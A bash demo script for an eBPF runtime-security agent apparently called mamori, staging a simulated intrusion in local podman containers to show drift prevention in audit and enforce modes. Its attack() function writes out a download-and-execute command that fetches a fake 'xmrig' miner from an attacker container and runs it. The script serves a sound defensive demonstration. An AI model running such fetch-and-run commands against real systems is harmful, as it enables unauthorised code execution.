#!/bin/bash
# demo.sh tells issue 3's story on this machine, for a newcomer:
#
#   A web container serves HTTP. An attacker who got a shell in it downloads
#   a "cryptominer" from a server of theirs and runs it. The miner was not in
#   the image, so Drift Prevention catches it: in audit mode the alert shows
#   the download, the write and the exec; in enforce mode the exec fails and
#   nothing of the binary runs.
#
# Run as root: scripts/demo.sh. It installs what it needs, builds mamori,
# uses a podman network of its own (the attacker's server is a container on
# it) and removes everything it made when it ends.
set -euo pipefail
export PATH=$PATH:/usr/local/go/bin
here=$(cd "$(dirname "$0")" && pwd)
repo=$(cd "$here/.." && pwd)
work=$(mktemp -d /tmp/mamori-demo.XXXXXX)
net=mamori-demo
agent_pid=

cleanup() {
	[ -n "$agent_pid" ] && kill -INT "$agent_pid" 2>/dev/null && wait "$agent_pid" 2>/dev/null
	podman rm -f -t 0 mamori-demo-web mamori-demo-attacker >/dev/null 2>&1 || true
	podman network rm -f "$net" >/dev/null 2>&1 || true
	rm -rf "$work"
}
trap cleanup EXIT

say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

[ "$(id -u)" = 0 ] || { echo "demo.sh: run as root (the agent loads eBPF)" >&2; exit 1; }
say "Preparing: podman, a busybox image, the mamori binary"
"$here/install-deps.sh" >/dev/null
image=$("$here/build-test-image.sh")
(cd "$repo" && go build -o "$work/mamori" ./cmd/mamori)

podman network create "$net" >/dev/null 2>&1 || true
podman run -d --name mamori-demo-attacker --network "$net" "$image" \
	sh -c 'mkdir -p /srv && cp /bin/busybox /srv/xmrig && httpd -f -p 8000 -h /srv' >/dev/null
attacker=$(podman inspect -f '{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}' mamori-demo-attacker)
podman run -d --name mamori-demo-web --label app=web --network "$net" "$image" \
	sh -c 'mkdir -p /www && echo "<h1>shop</h1>" > /www/index.html && httpd -f -p 8080 -h /www' >/dev/null
echo "web container: mamori-demo-web; attacker's server: $attacker:8000"

policy() { # $1: audit or enforce
	cat > "$work/policies/web.yaml" <<EOF
apiVersion: mamori.dev/v1
kind: RuntimePolicy
metadata:
  name: web-immutable
spec:
  mode: $1
  scope:
    container:
      labels:
        app: web
  controls:
    driftPrevention: {}
    forensics:
      events: 50
EOF
}

start_agent() {
	"$work/mamori" agent --rules none --policy "$work/policies" --health-addr 127.0.0.1:0 \
		--alerts-output "$work/alerts-$1.json" 2>"$work/agent-$1.log" &
	agent_pid=$!
	for _ in $(seq 100); do
		grep -q "agent ready" "$work/agent-$1.log" 2>/dev/null && break
		sleep 0.1
	done
	# The first exec in the container after the agent starts protects it.
	podman exec mamori-demo-web true
	sleep 0.3
}

stop_agent() {
	kill -INT "$agent_pid"
	wait "$agent_pid" || true
	agent_pid=
}

attack() {
	podman exec mamori-demo-web sh -c \
		"wget -q -O /tmp/xmrig http://$attacker:8000/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig --donate-level 1 2>&1; echo \"exit status: \$?\"" || true
}

show() { # $1: the alerts file
	python3 - "$1" <<'EOF'
import json, sys
for line in open(sys.argv[1]):
    a = json.loads(line)
    if a.get("rule") != "Drift Prevention" or "xmrig" not in a["process"]["exe"]:
        continue
    print(f'{a["priority"]}: {a["rule"]}, action={a["action"]}, policy={a["policy"]}')
    print(f'  {a["output"]}')
    print('  what led to it (forensics):')
    for e in a.get("forensics", []):
        p = e["process"]
        if e["event"] == "connect" and e.get("network"):
            n = e["network"]
            print(f'    connect  {p["name"]:8} -> {n.get("dst_ip")}:{n.get("dst_port")}   (the download)')
        elif e["event"] == "open" and e.get("file", {}).get("path", "").startswith("/tmp/xmrig"):
            print(f'    open     {p["name"]:8} {e["file"]["path"]} {e["file"].get("flags", "")}   (the write)')
        elif e["event"] == "exec" and "xmrig" in p["exe"]:
            print(f'    exec     {p["exe"]} upper_layer={p["exe_upper_layer"]}   (the run)')
    break
else:
    print("  (no Drift Prevention alert)")
EOF
}

mkdir -p "$work/policies"
say "1. Audit mode: the miner runs, and mamori reports how it got there"
echo "(the fake miner is busybox under another name: it says 'applet not found', but it ran)"
policy audit
start_agent audit
attack
stop_agent
show "$work/alerts-audit.json"

podman exec mamori-demo-web rm -f /tmp/xmrig
say "2. Enforce mode: the same attack; the miner never starts"
policy enforce
start_agent enforce
attack
stop_agent
show "$work/alerts-enforce.json"
